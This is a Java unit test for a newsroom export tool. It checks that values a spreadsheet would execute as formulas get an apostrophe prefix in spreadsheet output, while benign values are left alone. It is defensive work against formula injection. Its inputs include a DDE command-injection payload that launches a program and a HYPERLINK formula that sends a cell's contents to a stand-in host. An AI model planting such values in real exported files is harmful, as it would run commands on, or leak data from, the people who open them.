package newsroom.sic.export;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class FlavourTest {

    @ParameterizedTest
    @DisplayName("case 9: what a spreadsheet would run gets an apostrophe, in its flavour only")
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1",
                "@SUM(A1)",
                "\tword",
                "\rword",
                "\nword",
                "\r\n=1",
                "＝1+1",
                "＋1",
                "－1",
                "＠x",
                " =1",
                "\u00A0=1",
                "\u3000＝1",
                "\u200B=1",
                "\uFEFF=1",
                " \t=1",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"https://example.org?\"&A1)"
            })
    void disarmsFormulas(String value) {
        assertThat(Flavour.SPREADSHEET.cell(value)).isEqualTo("'" + value);
        assertThat(Flavour.EXACT.cell(value)).isEqualTo(value);
    }

    @ParameterizedTest
    @DisplayName("case 9: what no spreadsheet runs stays as it is")
    @ValueSource(
            strings = {
                "",
                " ",
                "13",
                "1-1",
                "a=b",
                "'=1",
                "“=1”",
                "one\n- two",
                "שלום",
                "–5",
                "🗞️"
            })
    void leavesTheRestAlone(String value) {
        assertThat(Flavour.SPREADSHEET.cell(value)).isEqualTo(value);
        assertThat(Flavour.EXACT.cell(value)).isEqualTo(value);
    }
}
